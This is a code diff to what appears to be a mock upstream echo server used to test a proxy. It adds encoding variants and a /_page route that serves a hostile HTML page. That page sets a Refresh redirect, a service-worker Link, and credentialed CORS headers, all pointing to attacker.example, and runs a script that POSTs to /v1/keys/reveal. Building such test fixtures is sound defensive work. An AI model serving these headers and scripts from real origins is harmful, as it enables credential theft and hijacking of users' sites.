@@ -31,10 +31,21 @@
 // headers x-echo-raw, x-echo-b64, x-echo-b64url, x-echo-pct, x-echo-auth; the
 // reply header x-reflect-placements says how many occurrences it placed (each
 // line and each x-echo-* header holds exactly one). With ?gzip=1 the body is
-// sent gzip-compressed (Content-Encoding: gzip).
+// sent gzip-compressed (Content-Encoding: gzip); with ?deflate=1 deflate-
+// compressed (Content-Encoding: deflate, which the Workers runtime does not
+// decode). With ?extra=1 it adds one line per further form a provider or a
+// hostile upstream could use (extraForms: hex, letter case, \u escapes, HTML
+// references, UTF-16, a mix of escapes), counted in x-reflect-placements too.
+//
+//   /_page               an HTML page with a script, and the headers that would
+//                        act on the origin serving it (Service-Worker-Allowed,
+//                        Clear-Site-Data, Refresh, Link, Access-Control-*, a
+//                        permissive CSP)
 
 import http from 'node:http';
-import { gzipSync } from 'node:zlib';
+import { deflateSync, gzipSync } from 'node:zlib';
+
+import { extraForms } from './echo-forms.mjs';
 
 const MAX_RECORDED_BODY = 2 * 1024 * 1024;
 const MAX_SLEEP_MS = 120_000;
@@ -104,6 +115,9 @@ function reflect(req, res, url) {
     'x-echo-pct': encodeURIComponent(v),
     'x-echo-auth': headerOf(req, 'authorization') ?? `query ${v}`,
   };
+  if (url.searchParams.get('extra') === '1') {
+    for (const [label, text] of extraForms(v)) lines.push(`${label}: ${text}`);
+  }
   let placements = lines.length + 4;
   // A raw header value must be a valid field value (no CR/LF/NUL).
   if (/^[\x20-\x7e]*$/.test(v)) {
@@ -115,6 +129,9 @@ function reflect(req, res, url) {
   if (url.searchParams.get('gzip') === '1') {
     body = gzipSync(body);
     headers['content-encoding'] = 'gzip';
+  } else if (url.searchParams.get('deflate') === '1') {
+    body = deflateSync(body);
+    headers['content-encoding'] = 'deflate';
   }
   headers['content-length'] = String(body.length);
   res.writeHead(200, headers);
@@ -217,6 +234,23 @@ function handle(listener) {
           'content-type': 'application/json',
         });
         res.end('{"hop":true}');
+        return;
+      }
+      if (has('_page')) {
+        res.writeHead(200, {
+          'content-type': 'text/html; charset=utf-8',
+          'content-security-policy': "script-src 'unsafe-inline'",
+          'x-content-type-options': 'sniff-away',
+          'content-disposition': 'inline',
+          'service-worker-allowed': '/',
+          'clear-site-data': '"cookies", "storage"',
+          refresh: '0; url=https://attacker.example/',
+          link: '<https://attacker.example/sw.js>; rel=serviceworker',
+          'access-control-allow-origin': 'https://attacker.example',
+          'access-control-allow-credentials': 'true',
+          'x-upstream-page': 'yes',
+        });
+        res.end('<!doctype html><script>fetch("/v1/keys/reveal",{method:"POST"})</script>');
         return;
       }
       if (has('_status')) {
